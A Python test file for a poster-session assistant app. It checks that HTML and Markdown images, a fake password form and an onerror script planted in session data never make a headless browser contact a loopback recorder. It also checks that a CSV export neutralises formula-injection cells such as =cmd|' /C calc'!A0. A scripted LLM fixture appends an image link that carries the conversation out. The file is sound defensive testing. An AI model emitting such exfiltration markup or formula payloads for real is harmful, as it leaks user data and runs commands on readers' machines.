"""Issue 14, items 6 and 8: nothing from the data or a model is fetched by the browser, and the
reading list's CSV holds no live spreadsheet formula.

A small real store is built from a session page whose preamble, one title and one abstract
carry HTML and Markdown images pointing at a recording HTTP server on loopback; the answers
come from the real app (extractive for a board, and a scripted local LLM that adds a Markdown
image to its answer). Headless Chromium at desktop and phone sizes then must make zero requests
to that server and show no <img>, <form> or password field from the data.
"""

from __future__ import annotations

import csv
import shutil
import threading
import time
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import FAKE_MODEL, running_app, write_session
from tests.scripted_llm import ScriptedLLM

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]
# The last answer is complete: its text has not changed for 600 ms and nothing is loading.
WAIT_ANSWERED = """(n) => {
  const bots = document.querySelectorAll('#chatbot [data-testid=bot]');
  if (bots.length < n) return false;
  const busy = document.querySelector('#chatbot .wrap:not(.hide)');
  const txt = bots[bots.length - 1].innerText, now = Date.now();
  if (busy || txt.includes('Answering…') || window.__lastTxt !== txt) {
    window.__lastTxt = txt; window.__lastChange = now; return false; }
  return now - window.__lastChange > 600;
}"""
# Elements that load or submit something, built from the data (they name the recorder).
FROM_DATA = """(origin) => {
  const loaders = 'img,picture,source,video,audio,iframe,object,embed,link,form,image,use';
  return [...document.querySelectorAll(loaders)].filter(e => e.outerHTML.includes(origin))
    .map(e => e.outerHTML.slice(0, 120))
    .concat([...document.querySelectorAll('input[type=password]')].map(e => e.outerHTML));
}"""
VIEWPORTS = {"desktop": {"width": 1280, "height": 800}, "phone": {"width": 390, "height": 844}}


class Recorder(ThreadingHTTPServer):
    """A loopback HTTP server that records every request: any hit is a leak."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Record)
        self.hits: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Record(BaseHTTPRequestHandler):
    server: Recorder

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        self.server.hits.append(f"GET {self.path}")
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.server.hits.append(f"POST {self.path}")
        self.send_response(204)
        self.end_headers()


def hostile_page(folder: Path, bundled, origin: str) -> Path:
    """Twelve real posters; the preamble, #100 and #101 carry what an attacker would write."""
    from ingest.parse import Session

    name = f'Poster Session 2 <img src="{origin}/preamble.png">'
    location = (f'<form action="{origin}/form"><input type="password" name="pw"></form> '
                f"![hall]({origin}/hall.png)")
    posters = list(bundled.posters[:12])
    posters[0] = replace(
        posters[0], title=f'Aquarium notes <img src="{origin}/title.png"> '
                          f"![t]({origin}/title-md.png)",
        abstract=(f"We track zebrafish telemetry ![x]({origin}/abstract.png) "
                  f'<img src="{origin}/abstract-img.png" onerror="alert(1)"> '
                  f'<form action="{origin}/f"><input type="password" name="pw"></form> '
                  f"[details]({origin}/link) over long zebrafish telemetry recordings."))
    posters[1] = replace(posters[1], title='=HYPERLINK("http://x","y")', award="-1 Runner-up",
                         authors=("=cmd|' /C calc'!A0", "@SUM(1+1)"))
    return write_session(folder / "hostile.txt", Session(name, location, "hostile", posters))


@pytest.fixture(scope="module")
def recorder():
    server = Recorder()
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def llm(recorder):
    """The model's answer cites its poster, then asks the browser to load an image that
    carries the conversation out."""
    server = ScriptedLLM(tail=f"![x]({recorder.origin}/llm.png?conv=secret-question) "
                              f'<img src="{recorder.origin}/llm-img.png">')
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, bundled, recorder, llm):
    from assistant.ask import Assistant
    from assistant.embedding import HashEmbedding
    from assistant.settings import Settings
    from ingest.build import ingest

    folder = tmp_path_factory.mktemp("hostile")
    # The bars are lowered so that the hash embedder's cosines never make it abstain: this
    # store tests rendering, not relevance.
    settings = Settings(store=folder / "store", embed_model=FAKE_MODEL, backend="openai",
                        min_relevance=0.0, cite_floor=0.0, lexical_cite_floor=0.0)
    embedder = HashEmbedding(FAKE_MODEL, 64)
    ingest([hostile_page(folder, bundled, recorder.origin)], settings, embedder,
           progress=False)
    with pytest.MonkeyPatch.context() as env:
        env.setenv("OPENAI_BASE_URL", llm.base_url)
        env.setenv("OPENAI_API_KEY", "sk-local-test")
        assistant = Assistant(settings, embedder=embedder)
    with running_app(assistant) as url:
        yield url


def test_inert_markdown_shows_markup_as_text_and_reads_back():
    from assistant.app import inert, plain_text

    hostile = '![x](http://h/p.png?c=1) <img src=x> [a](javascript:b) \\[ &lt; [#9] a\\b'
    shown = inert(hostile)
    assert "<" not in shown and "![x]" not in shown and "[a]" not in shown
    assert plain_text(shown) == hostile


def test_a_question_with_markup_is_read_back_as_typed():
    from assistant.app import inert, previous_turn

    question = "what about <b>[this]</b> & ![x](y)?"
    history = [{"role": "user", "content": inert(question)},
               {"role": "assistant", "content": '<abbr class="cite">[#100]</abbr>'}]
    turn = previous_turn(history)
    assert turn is not None and turn.question == question and turn.boards == [100]


@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("+1", "'+1"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("A title = fine", "A title = fine"), (812, 812)])
def test_spreadsheet_cells_never_start_a_formula(cell, safe):
    from assistant.app import spreadsheet_cell

    assert spreadsheet_cell(cell) == safe


@pytest.mark.slow
def test_the_exported_csv_holds_no_live_formula(hostile_app):
    from gradio_client import Client

    client = Client(hostile_app, analytics_enabled=False, verbose=False)
    try:
        client.predict(["#101", "#100"], api_name="/star")
        md_path, csv_path = client.predict(api_name="/export")
    finally:
        client.close()
    with open(csv_path, encoding="utf-8", newline="") as handle:
        rows = {row["board"]: row for row in csv.DictReader(handle)}
    assert rows["101"]["title"] == '\'=HYPERLINK("http://x","y")'
    assert rows["101"]["authors"] == "'=cmd|' /C calc'!A0 · @SUM(1+1)"
    assert rows["101"]["award"] == "'-1 Runner-up"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in rows.values() for value in row.values())
    assert "#101" in Path(md_path).read_text(encoding="utf-8")


def ask(page, question: str, answers: int) -> str:
    box = page.locator("#msg textarea")
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(WAIT_ANSWERED, arg=answers, timeout=30_000, polling=200)
    return page.locator("#chatbot [data-testid='bot']").last.inner_text()


@pytest.mark.slow
@pytest.mark.parametrize("size", list(VIEWPORTS))
def test_no_image_form_or_link_from_data_or_model_is_loaded(hostile_app, recorder, size):
    from playwright.sync_api import sync_playwright

    recorder.hits.clear()
    seen: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        context = browser.new_context(viewport=VIEWPORTS[size], is_mobile=size == "phone")
        # Only loopback is reachable; requests to the recorder go through, to be counted.
        context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(
            "http://127.0.0.1:") else route.abort())
        page = context.new_page()
        page.on("request", lambda r: seen.append(r.url) if recorder.origin in r.url else None)
        page.on("dialog", lambda d: (seen.append(f"dialog:{d.message}"), d.dismiss()))
        page.goto(hostile_app)
        page.wait_for_selector("#msg textarea", timeout=30_000)
        # the greeting is the chat's placeholder until the first question
        welcome = page.locator("#chatbot").inner_text()
        model = ask(page, "Which posters are about zebrafish telemetry?", answers=1)
        board = ask(page, "What's at #100?", answers=2)
        page.locator("#chatbot [data-testid='bot'] abbr.cite").last.click()
        page.locator("#cite-pop").wait_for(state="visible", timeout=15_000)
        page.locator("#cite-pop button[data-act=star]").click()
        # The map's dots carry the titles as attributes; a tapped dot's card is built as text.
        page.get_by_role("tab", name="Map").click()
        # The map is redrawn after each answer: tap the dot of the redrawn map (#100 marked),
        # not one of the map being replaced, whose tap can land on nothing and close the card.
        dot = page.locator("#map circle.hit[data-board='100']")
        dot.wait_for(timeout=15_000)
        dot.click()
        page.locator("#cite-pop").wait_for(state="visible", timeout=15_000)
        page.keyboard.press("Escape")
        page.get_by_role("tab", name="Reading list").click()
        page.wait_for_function("() => document.querySelector('#reading-list')"
                               ".innerText.includes('Aquarium')", timeout=10_000)
        time.sleep(1.0)  # an image the page did request would arrive by now
        loaded = page.evaluate(FROM_DATA, recorder.origin)
        browser.close()
    assert recorder.hits == [] and seen == [], (recorder.hits, seen)
    assert loaded == []
    # What was not rendered is shown as text: the reader sees what the data says.
    origin = recorder.origin
    assert f'<img src="{origin}/preamble.png">' in welcome
    assert '<input type="password" name="pw">' in welcome
    assert "[#100]" in model and f"![x]({origin}/llm.png?conv=secret-question)" in model
    assert f"![x]({origin}/abstract.png)" in board
    assert f'<img src="{origin}/abstract-img.png"' in board
